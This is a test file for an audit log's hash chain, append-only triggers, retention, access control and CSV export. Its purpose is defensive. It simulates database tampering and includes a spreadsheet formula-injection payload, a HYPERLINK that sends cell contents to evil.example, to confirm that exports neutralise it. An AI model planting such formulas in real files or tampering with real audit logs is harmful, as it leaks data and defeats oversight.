/**
 * The audit log on both engines: hash-chained, append-only by trigger, tamper-evident when the
 * triggers are gone, serialised under concurrent writes, purged only past retention, searched and
 * exported only by the audit administrator, and exported with formula-injection guarded cells.
 */
import { randomBytes } from 'node:crypto';
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { Migrator, sql } from 'kysely';
import pg from 'pg';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Role } from '../accounts/roles.js';
import { builtInKinds } from '../areas/index.js';
import { auditCommand } from '../cli/audit.js';
import { todayInChina } from '../core/dates.js';
import { openDb, type Db, type DbConfig } from '../db/connect.js';
import { isSqlite } from '../db/dialect.js';
import { migrate } from '../db/migrate.js';
import * as core0001 from '../db/migrations/0001_core.js';
import * as reports0002 from '../db/migrations/0002_reports.js';
import * as accounts0003 from '../db/migrations/0003_accounts.js';
import { buildApp } from '../http/app.js';
import { SESSION_COOKIE } from '../http/auth.js';
import type { OrgUnit } from '../org/repository.js';
import type { Actor } from '../org/scope.js';
import { testContext, type TestContext } from '../testing/context.js';
import { appErrorOf } from '../testing/errors.js';
import { smallTown, type Fixture } from '../testing/fixtures.js';
import { signInNewUser } from '../testing/http.js';
import { auditMacKeys } from '../security/crypto.js';
import { bindAuditChain, keyAuditChain, writeAudit } from './audit.js';
import { ChainKey, GENESIS_HASH, rowHash, type ChainedFields } from './chain.js';
import { CHECKPOINT_FILE, type Checkpoint } from './checkpoint.js';
import { auditCsv, searchAudit } from './query.js';
import { latestPurgeDate, purgeAuditLog, setRetentionDays } from './retention.js';
import { verifyAuditChain } from './verify.js';

const clerk: Actor = { userId: 'u-clerk', name: '王干事', role: 'townOffice', ip: '10.0.0.8' };

const dispute = (orgId: string, title = '两户因宅基地边界发生争执') => ({
  orgId,
  date: '2025-03-08',
  title,
  source: 'monthlyScreening',
  category: 'neighbour',
  status: 'registered',
});

const errorOf = async (promise: Promise<unknown>): Promise<Error> => {
  try {
    await promise;
  } catch (error) {
    if (error instanceof Error) return error;
    throw error;
  }
  throw new Error('expected the call to fail');
};

const rowsOf = (ctx: TestContext) => ctx.db.kysely.selectFrom('audit_log').selectAll().orderBy('id').execute();

/** What an attacker with database access does first: switch the triggers off. */
async function dropTriggersOn(db: Db) {
  if (isSqlite(db.kysely)) {
    await sql`DROP TRIGGER audit_log_no_update`.execute(db.kysely);
    await sql`DROP TRIGGER audit_log_no_delete`.execute(db.kysely);
  } else {
    await sql`ALTER TABLE audit_log DISABLE TRIGGER USER`.execute(db.kysely);
  }
}
const dropTriggers = (ctx: TestContext) => dropTriggersOn(ctx.db);

/** Captures what auditCommand prints. */
async function runCli(ctx: TestContext, args: string[]) {
  const out: string[] = [];
  const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  const error = vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  try {
    const code = await auditCommand(ctx, args);
    return { code, output: out.join('\n') };
  } finally {
    log.mockRestore();
    error.mockRestore();
  }
}

describe('the chain and the triggers', () => {
  let ctx: TestContext;
  let f: Fixture;

  beforeAll(async () => {
    ctx = await testContext();
    f = await smallTown(ctx);
  });
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it('links every write to the one before; verify says OK with the row count', async () => {
    const office = await f.as('townOffice');
    for (const title of ['甲户与乙户宅基地纠纷', '丙户与丁户土地纠纷', '戊户与己户邻里纠纷']) await ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, title));
    await writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: 'nobody' } });

    const rows = await rowsOf(ctx);
    expect(rows.length).toBeGreaterThanOrEqual(4);
    expect(rows[0]?.prev_hash).toBe(GENESIS_HASH);
    rows.forEach((row, i) => {
      expect(row.id).toBe(i + 1);
      expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
      if (i > 0) expect(row.prev_hash).toBe(rows[i - 1]?.hash);
    });
    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: rows.length, head: { id: rows.length, hash: rows[rows.length - 1]?.hash } });

    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(0);
    expect(cli.output).toContain('OK');
    expect(cli.output).toContain(`共 ${rows.length} 条`);
  });

  it('refuses an UPDATE in the database itself, and the row stays as it was', async () => {
    const [row] = await rowsOf(ctx);
    if (!row) throw new Error('no audit rows');
    const error = await errorOf(sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely));
    expect(error.message).toContain('审计日志不可修改');
    const error2 = await errorOf(ctx.db.kysely.updateTable('audit_log').set({ actor_name: '别人' }).execute());
    expect(error2.message).toContain('审计日志不可修改');
    expect((await rowsOf(ctx))[0]).toEqual(row);
  });

  it('refuses a DELETE of a row inside the retention period (and TRUNCATE on PostgreSQL)', async () => {
    const before = await rowsOf(ctx);
    const error = await errorOf(sql`delete from audit_log where id = ${before[1]?.id ?? 0}`.execute(ctx.db.kysely));
    expect(error.message).toContain('保存期内的审计日志不可删除');
    if (!isSqlite(ctx.db.kysely)) expect((await errorOf(sql`truncate audit_log`.execute(ctx.db.kysely))).message).toContain('审计日志不可清空');
    expect(await rowsOf(ctx)).toEqual(before);
  });

  it('keeps the retention period at 180 days or more, in the service and in the database', async () => {
    const system = { userId: null, name: '系统', role: 'system', ip: null } as const;
    const error = await appErrorOf(setRetentionDays(ctx.db, system, 90));
    expect(error.field).toBe('days');
    expect(error.message).toContain('180');
    await expect(ctx.db.kysely.updateTable('audit_setting').set({ retention_days: 90 }).execute()).rejects.toThrow();
    expect((await ctx.db.kysely.selectFrom('audit_setting').select('retention_days').executeTakeFirstOrThrow()).retention_days).toBe(180);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('keeps a valid chain under concurrent writes, numbered without gaps', async () => {
    const office = await f.as('townOffice');
    const before = (await rowsOf(ctx)).length;
    await Promise.all([
      ...Array.from({ length: 20 }, (_, i) => ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, `并发登记的纠纷第${i + 1}件`))),
      ...Array.from({ length: 5 }, (_, i) => writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: `guess${i}` } })),
    ]);
    const rows = await rowsOf(ctx);
    expect(rows.length).toBe(before + 25);
    expect(rows.map((r) => r.id)).toEqual(rows.map((_, i) => i + 1));
    expect(new Set(rows.map((r) => r.prev_hash)).size).toBe(rows.length);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: rows.length });
  });

  it('leaves no gap when the transaction around an audit write rolls back', async () => {
    const before = await rowsOf(ctx);
    await expect(
      ctx.db.kysely.transaction().execute(async (trx) => {
        await writeAudit(trx, clerk, { action: 'update', kind: 'dispute', recordId: 'r1' });
        throw new Error('business rule failed after the audit row');
      }),
    ).rejects.toThrow('business rule failed');
    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'r2' });
    const rows = await rowsOf(ctx);
    expect(rows.length).toBe(before.length + 1);
    expect(rows[rows.length - 1]).toMatchObject({ id: before.length + 1, record_id: 'r2' });
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });
});

describe('tampering by someone with database access', () => {
  let ctx: TestContext;

  beforeAll(async () => {
    ctx = await testContext();
    for (let i = 1; i <= 6; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: `r${i}`, before: { status: 'registered' }, after: { status: 'mediating' } });
    await dropTriggers(ctx);
  });
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it('catches an edited row and names it; undoing the edit makes the chain whole again', async () => {
    const row = (await rowsOf(ctx))[2];
    if (!row) throw new Error('no row 3');
    await sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely);

    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id } });
    if (report.ok) return;
    expect(report.firstBad.reason).toContain('被修改');
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain(`记录编号 ${row.id}`);

    await sql`update audit_log set after = ${row.after} where id = ${row.id}`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: 6 });
  });

  it('catches an edit whose row hash was recomputed without the key, at that row', async () => {
    const rows = await rowsOf(ctx);
    const row = rows[1];
    if (!row) throw new Error('no row 2');
    const { rowHash } = await import('./chain.js');
    const forged = { ...row, actor_name: '别人' };
    await sql`update audit_log set actor_name = ${forged.actor_name}, hash = ${rowHash(row.prev_hash ?? '', forged)} where id = ${row.id}`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id } });
    expect(!report.ok && report.firstBad.reason).toContain('不带密钥');
    await sql`update audit_log set actor_name = ${row.actor_name}, hash = ${row.hash} where id = ${row.id}`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('catches a deleted row in the middle, naming the row after the gap', async () => {
    const rows = await rowsOf(ctx);
    const victim = rows[3];
    if (!victim) throw new Error('no row 4');
    await sql`delete from audit_log where id = ${victim.id}`.execute(ctx.db.kysely);

    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: victim.id + 1 } });
    if (report.ok) return;
    expect(report.firstBad.reason).toContain('删除');
    expect((await runCli(ctx, ['verify'])).code).toBe(1);
  });

  it('catches the oldest rows deleted without a purge', async () => {
    await sql`delete from audit_log where id = 1`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: false, firstBad: { id: 2 } });
  });
});

describe('retention and purge', () => {
  let ctx: TestContext;
  const DAY = 86_400_000;
  const daysAgo = (n: number) => new Date(Date.now() - n * DAY);
  const dateOf = (d: Date) => d.toISOString().slice(0, 10);

  beforeAll(async () => {
    ctx = await testContext();
    // Rows from last year, written with the clock set back.
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(daysAgo(400));
    for (let i = 1; i <= 3; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `old${i}` });
    vi.useRealTimers();
    for (let i = 1; i <= 2; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `new${i}` });
  });
  afterEach(() => vi.useRealTimers());
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it('refuses a date inside the retention period and deletes nothing', async () => {
    const latest = await latestPurgeDate(ctx.db);
    expect(latest <= dateOf(daysAgo(179))).toBe(true);
    const tooRecent = dateOf(daysAgo(30));
    const error = await appErrorOf(purgeAuditLog(ctx.db, clerk, tooRecent));
    expect(error.field).toBe('before');
    expect(error.message).toContain('180');

    const cli = await runCli(ctx, ['purge', '--before', tooRecent]);
    expect(cli.code).toBe(2);
    expect(cli.output).toContain('保存期');
    expect((await rowsOf(ctx)).length).toBe(5);
  });

  it('deletes only rows past retention, records the purge, and the rest still verifies', async () => {
    const cli = await runCli(ctx, ['purge', '--before', dateOf(daysAgo(200))]);
    expect(cli.code, cli.output).toBe(0);
    const rows = await rowsOf(ctx);
    expect(rows.map((r) => r.record_id)).toEqual(['new1', 'new2', null]);
    const purge = rows[2];
    expect(purge).toMatchObject({ id: 6, action: 'purge_audit', actor_name: '系统（命令行）' });
    expect(JSON.parse(purge?.after ?? '{}')).toMatchObject({ deleted: 3, throughId: 3, anchor: rows[0]?.prev_hash });
    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: 3, head: { id: 6, hash: purge?.hash } });
  });

  it('still catches the oldest remaining rows deleted behind the purge', async () => {
    await dropTriggers(ctx);
    await sql`delete from audit_log where id = 4`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: 5 } });
  });
});

describe('search and export', () => {
  let ctx: TestContext;
  let f: Fixture;
  let app: FastifyInstance;
  const PASSWORD = 'Fazhi#2025-test';
  let n = 0;

  async function signInAs(role: Role, unit: OrgUnit | { id: string; name: string }): Promise<string> {
    n += 1;
    const username = `audit.${role.toLowerCase()}.${n}`;
    return signInNewUser(app, ctx.accounts, role, unit, { username, displayName: `${unit.name}${role}${n}`, password: PASSWORD });
  }
  const get = (token: string | undefined, url: string) => app.inject({ method: 'GET', url, ...(token ? { cookies: { [SESSION_COOKIE]: token } } : {}) });

  const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
  let rootAdmin: string;
  let townAdmin: string;

  beforeAll(async () => {
    ctx = await testContext();
    f = await smallTown(ctx);
    app = await buildApp(ctx);
    await app.ready();
    await writeAudit(ctx.db.kysely, { ...clerk, name: evil }, { action: 'update', kind: 'dispute', recordId: 'rx', orgId: f.villageA.id, before: { title: '+1' }, after: { title: '@SUM(A1:A9)' } });
    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'ry', orgId: f.otherVillage.id, after: { title: '-2+3' } });
    rootAdmin = await signInAs('auditAdmin', { id: f.system.orgId, name: '自治区' });
    townAdmin = await signInAs('auditAdmin', f.town);
  });
  afterAll(async () => {
    // Unset when beforeAll failed.
    await (app as FastifyInstance | undefined)?.close();
    await (ctx as TestContext | undefined)?.close();
  });

  it('lets only the audit administrator search or export: 401 signed out, 403 for every other role', async () => {
    for (const url of ['/api/audit', '/api/audit/export']) expect((await get(undefined, url)).statusCode).toBe(401);
    for (const role of ['systemAdmin', 'securityAdmin', 'townOffice', 'leader', 'countyReviewer'] as const) {
      const token = await signInAs(role, role === 'countyReviewer' ? f.county : f.town);
      for (const url of ['/api/audit', '/api/audit/export']) {
        const res = await get(token, url);
        expect(res.statusCode, `${role} ${url}`).toBe(403);
        expect(res.json()).toMatchObject({ error: { id: 'forbidden' } });
      }
    }
    expect((await get(rootAdmin, '/api/audit')).statusCode).toBe(200);
  });

  it('searches newest first with filters and pages', async () => {
    const res = await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1');
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json<{ items: Array<{ recordId: string; actionLabel: string; after: unknown }>; total: number; page: number }>();
    expect(body.total).toBe(2);
    expect(body.items).toHaveLength(1);
    expect(body.items[0]).toMatchObject({ recordId: 'ry', actionLabel: '修改', after: { title: '-2+3' } });
    const page2 = (await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1&page=2')).json<{ items: Array<{ recordId: string }> }>();
    expect(page2.items.map((i) => i.recordId)).toEqual(['rx']);

    const byActor = (await get(rootAdmin, `/api/audit?actor=${encodeURIComponent('HYPERLINK')}`)).json<{ items: Array<{ recordId: string }> }>();
    expect(byActor.items.map((i) => i.recordId)).toEqual(['rx']);
    const byOrg = (await get(rootAdmin, `/api/audit?org=${f.otherTown.id}`)).json<{ items: Array<{ recordId: string }> }>();
    expect(byOrg.items.map((i) => i.recordId)).toEqual(['ry']);
    const today = todayInChina();
    const none = (await get(rootAdmin, `/api/audit?from=2020-01-01&to=2020-12-31`)).json<{ total: number }>();
    expect(none.total).toBe(0);
    expect((await get(rootAdmin, `/api/audit?from=2020-01-01&to=${today}&recordId=rx`)).json<{ total: number }>().total).toBe(1);
  });

  it('names the field of a bad filter', async () => {
    const res = await get(rootAdmin, '/api/audit?from=2025-13-01');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: { id: 'validation', field: 'from' } });
    expect(res.json<{ error: { message: string } }>().error.message).toContain('「开始日期」');
    const nul = await get(rootAdmin, '/api/audit?actor=%00');
    expect(nul.statusCode).toBe(400);
    expect(nul.json()).toMatchObject({ error: { id: 'validation', field: 'actor' } });
    expect(await get(rootAdmin, '/api/audit/export?to=2025-02-30').then((r) => r.json<unknown>())).toMatchObject({ error: { id: 'validation', field: 'to' } });
  });

  it('shows an administrator below the root only rows about its own subtree', async () => {
    const ids = (await get(townAdmin, '/api/audit?kind=dispute')).json<{ items: Array<{ recordId: string }> }>().items.map((i) => i.recordId);
    expect(ids).toEqual(['rx']);
    expect((await get(townAdmin, `/api/audit?org=${f.otherTown.id}`)).statusCode).toBe(404);
  });

  it('exports CSV for Excel: BOM, Chinese header, formula cells neutralised; the export is audited', async () => {
    const res = await get(rootAdmin, '/api/audit/export?kind=dispute');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toContain("filename*=UTF-8''");
    expect(res.body.startsWith('\uFEFF编号,时间（北京时间）,操作人')).toBe(true);
    const lines = res.body.split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(3);
    expect(lines[2]).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const exported = await ctx.db.kysely.selectFrom('audit_log').selectAll().where('action', '=', 'export_audit').execute();
    expect(exported).toHaveLength(1);
    expect(JSON.parse(exported[0]?.after ?? '{}')).toEqual({ kind: 'dispute' });
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('neutralises cells in the CSV the service produces, whatever field holds the formula', async () => {
    let csv = '';
    for await (const chunk of auditCsv(ctx.db, f.system, { recordId: 'rx' })) csv += chunk;
    const cells = csv.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'${evil.replace(/"/g, '""')}"`);
    // JSON values start with { so they are safe as they are; the cells that start with = + - @ are not.
    expect(cells).toContain('"{""title"":""+1""}"');
    const found = await searchAudit(ctx.db, f.system, { recordId: 'rx' });
    expect(found.items[0]?.actorName).toBe(evil);
  });
});

describe('migrating a database that already has an audit log', () => {
  const dir = mkdtempSync(join(tmpdir(), 'fazhi-audit-legacy-'));
  const databaseUrl = process.env.DATABASE_URL || undefined;
  const schema = `a_${randomBytes(6).toString('hex')}`;
  const admin = async (statement: string) => {
    const client = new pg.Client({ connectionString: databaseUrl });
    await client.connect();
    await client.query(statement);
    await client.end();
  };
  const config: DbConfig = databaseUrl ? { databaseUrl, schema } : { sqlitePath: join(dir, 'legacy.db') };

  beforeAll(async () => {
    if (databaseUrl) await admin(`CREATE SCHEMA ${schema}`);
  });
  afterAll(async () => {
    if (databaseUrl) await admin(`DROP SCHEMA ${schema} CASCADE`);
    rmSync(dir, { recursive: true, force: true });
  });

  it('chains the rows already there (id gaps and all), then carries on without gaps', async () => {
    const db = openDb(config);
    try {
      // The schema as released before the chain: migrations 0001–0003 only.
      const before = new Migrator({
        db: db.kysely,
        provider: { getMigrations: async () => ({ '0001_core': core0001, '0002_reports': reports0002, '0003_accounts': accounts0003 }) },
        ...(databaseUrl ? { migrationTableSchema: schema } : {}),
      });
      const { error } = await before.migrateToLatest();
      expect(error).toBeUndefined();
      // A rolled-back transaction on PostgreSQL leaves a gap in the sequence: ids 1, 2, 5.
      for (const id of [1, 2, 5]) {
        await sql`insert into audit_log (id, at, actor_id, actor_name, ip, action, kind, record_id, org_id, before, after)
          values (${id}, ${`2025-01-0${id}T08:00:00.000Z`}, 'u1', '老用户', null, 'login', null, null, null, null, null)`.execute(db.kysely);
      }

      await migrate(db, builtInKinds);
      // What createContext does with the key: the plain chain is kept and one keyed row follows it.
      bindAuditChain(db.kysely, { key: new ChainKey(auditMacKeys(randomBytes(32)).chain, 'sha256') });
      const unkeyed = await verifyAuditChain(db);
      expect(unkeyed).toMatchObject({ ok: false, firstBad: { id: 5 } });
      expect(!unkeyed.ok && unkeyed.firstBad.reason).toContain('没有一条用审计密钥计算的哈希');
      // With a checkpoint outside the database the chain was keyed before: a plain log now is a rewrite, never keyed over.
      expect(await keyAuditChain(db.kysely, async () => true)).toBe(false);
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(true);
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(false);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: true, rows: 4, head: { id: 6 } });
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      const rows = await db.kysely.selectFrom('audit_log').select(['id', 'action', 'prev_hash', 'hash']).orderBy('id').execute();
      expect(rows.map((r) => r.id)).toEqual([1, 2, 5, 6, 7]);
      expect(rows[3]?.action).toBe('key_audit_chain');
      expect(rows[0]?.prev_hash).toBe(GENESIS_HASH);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: true, rows: 5 });

      // Someone with the database but not the key appends a row with the public plain hash: the
      // next start does not key over it (a keyed row exists), and verify reports it.
      const head = await db.kysely.selectFrom('audit_log').selectAll().orderBy('id', 'desc').limit(1).executeTakeFirstOrThrow();
      const forged = { id: 8, at: '2025-02-01T08:00:00.000Z', actor_id: 'u1', actor_name: '老用户', ip: null, action: 'login', kind: null, record_id: null, org_id: null, before: null, after: null };
      await db.kysely.insertInto('audit_log').values({ ...forged, prev_hash: head.hash as string, hash: rowHash(head.hash as string, forged) }).execute();
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(false);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, firstBad: { id: 8 } });
      await dropTriggersOn(db);
      await sql`delete from audit_log where id = 8`.execute(db.kysely);

      // After the legacy rows, a gap is a deletion again.
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      await sql`delete from audit_log where id = 8`.execute(db.kysely);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, firstBad: { id: 9 } });
    } finally {
      await db.close();
    }
  });
});

describe('the keyed chain, anchored by checkpoints outside the database', () => {
  let ctx: TestContext;
  const ROWS = 30;

  beforeEach(async () => {
    ctx = await testContext();
    for (let i = 1; i <= ROWS; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: `r${i}`, after: { status: 'mediating' } });
  });
  afterEach(() => (ctx as TestContext | undefined)?.close()); // unset when beforeEach failed

  const checkpointFile = () => join(ctx.auditAnchor.dir, CHECKPOINT_FILE);
  const verifyWithAnchor = async () => verifyAuditChain(ctx.db, (await ctx.auditAnchor.read()).checkpoints);

  /** Rewrites row `id` with `change`, then gives it and every later row the hash `formula` makes: a careful forger. */
  async function rewriteFrom(id: number, change: { actor_name: string }, formula: (prev: string, row: ChainedFields) => string) {
    let prev = (await ctx.db.kysely.selectFrom('audit_log').select('hash').where('id', '=', id - 1).executeTakeFirstOrThrow()).hash ?? '';
    for (const row of await ctx.db.kysely.selectFrom('audit_log').selectAll().where('id', '>=', id).orderBy('id').execute()) {
      const content = row.id === id ? { ...row, ...change } : row;
      const hash = formula(prev, content);
      await sql`update audit_log set actor_name = ${content.actor_name}, prev_hash = ${prev}, hash = ${hash} where id = ${row.id}`.execute(ctx.db.kysely);
      prev = hash;
    }
  }

  it('reports the newest 20 rows deleted (triggers dropped first) as truncation, against the last checkpoint', async () => {
    const written = await runCli(ctx, ['checkpoint']);
    expect(written.code, written.output).toBe(0);
    expect(written.output).toContain(`共 ${ROWS} 条，最新编号 ${ROWS}`);
    const line = JSON.parse(readFileSync(checkpointFile(), 'utf8').trim()) as Checkpoint;
    expect(line).toMatchObject({ v: 1, rows: ROWS, lastId: ROWS, reason: 'command' });
    expect(line.alg).toMatch(/^hmac-(sha256|sm3)$/);

    await dropTriggers(ctx);
    await sql`delete from audit_log where id > ${ROWS - 20}`.execute(ctx.db.kysely);
    // The chain itself is whole: only the checkpoint shows what is missing.
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: ROWS - 20 });
    const report = await verifyWithAnchor();
    expect(report).toMatchObject({ ok: false, firstBad: { id: ROWS - 19 } });
    expect(!report.ok && report.firstBad.reason).toContain('截断');
    expect(!report.ok && report.firstBad.reason).toContain(`编号 ${ROWS - 19} 至 ${ROWS}`);

    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain(`最近的检查点（${checkpointFile()}）`);
    expect(cli.output).toContain('审计日志被截断');
  });

  it('fails a rewrite that recomputed every later hash with the old unkeyed formula, naming the rewritten row', async () => {
    await dropTriggers(ctx);
    await rewriteFrom(12, { actor_name: '别人' }, rowHash);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: 12 } });
    expect(!report.ok && report.firstBad.reason).toContain('不是用审计密钥计算的');
    expect((await runCli(ctx, ['verify'])).code).toBe(1);
  });

  it('catches even a rewrite recomputed with the key, at the checkpoint taken before it', async () => {
    await ctx.auditAnchor.checkpoint('command');
    await dropTriggers(ctx);
    const key = new ChainKey(auditMacKeys(Buffer.from(ctx.config.key ?? '', 'hex')).chain, ctx.cipher.algorithm === 'sm4' ? 'sm3' : 'sha256');
    await rewriteFrom(12, { actor_name: '别人' }, (prev, row) => key.hash(prev, row));
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
    const report = await verifyWithAnchor();
    expect(report).toMatchObject({ ok: false, firstBad: { id: ROWS } });
    expect(!report.ok && report.firstBad.reason).toContain('改写');
  });

  it('reports a forged checkpoint (bad signature) and does not compare with it', async () => {
    const real = await ctx.auditAnchor.checkpoint('command');
    if (!real) throw new Error('no checkpoint written');
    expect((await runCli(ctx, ['verify'])).code).toBe(0);
    // Someone who deleted rows writes a checkpoint that agrees with what is left.
    await dropTriggers(ctx);
    await sql`delete from audit_log where id > 10`.execute(ctx.db.kysely);
    const head = await ctx.db.kysely.selectFrom('audit_log').select('hash').where('id', '=', 10).executeTakeFirstOrThrow();
    appendFileSync(checkpointFile(), `${JSON.stringify({ ...real, at: new Date().toISOString(), reason: 'restore', rows: 10, lastId: 10, head: head.hash })}\n`);

    const anchor = await ctx.auditAnchor.read();
    expect(anchor.forged).toEqual([expect.stringContaining('第 2 行的签名不符')]);
    expect(anchor.checkpoints).toEqual([real]);
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain('签名不符');
    expect(cli.output).toContain('审计日志被截断');
  });

  it('reports a genuine old restore checkpoint appended again, and still names the truncation', async () => {
    // A genuine 'restore' line (as any restore writes), then rows, then a later checkpoint.
    const restore = await ctx.auditAnchor.checkpoint('restore');
    if (!restore) throw new Error('no checkpoint written');
    for (let i = 0; i < 20; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    const later = await ctx.auditAnchor.checkpoint('command');
    if (!later) throw new Error('no checkpoint written');
    expect((await runCli(ctx, ['verify'])).code).toBe(0);
    // Someone deletes the newest rows and replays the old restore line, which would start the comparison afresh.
    await dropTriggers(ctx);
    await sql`delete from audit_log where id > ${restore.lastId}`.execute(ctx.db.kysely);
    appendFileSync(checkpointFile(), `${JSON.stringify(restore)}\n`);

    const anchor = await ctx.auditAnchor.read();
    expect(anchor.forged).toEqual([expect.stringContaining('接不上')]);
    expect(anchor.checkpoints).toEqual([restore, later]);
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain('审计日志被截断');
  });

  it('writes a checkpoint by itself after every hundred appends and at shutdown', async () => {
    for (let i = 0; i < 100; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    await vi.waitFor(() => expect(existsSync(checkpointFile())).toBe(true));
    await vi.waitFor(async () => expect((await ctx.auditAnchor.read()).checkpoints.map((c) => c.reason)).toEqual(['appends']));
    await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    await ctx.auditAnchor.close();
    const { checkpoints, forged } = await ctx.auditAnchor.read();
    expect(forged).toEqual([]);
    // The hundredth append of this context (setup's included) asks for one; it records what has committed by then.
    expect(checkpoints.map((c) => c.reason)).toEqual(['appends', 'shutdown']);
    expect(checkpoints[0]?.lastId).toBeGreaterThanOrEqual(100);
    expect(checkpoints[1]).toMatchObject({ rows: ROWS + 101, lastId: ROWS + 101 });
    expect(await verifyWithAnchor()).toMatchObject({ ok: true, rows: ROWS + 101 });
  });
});
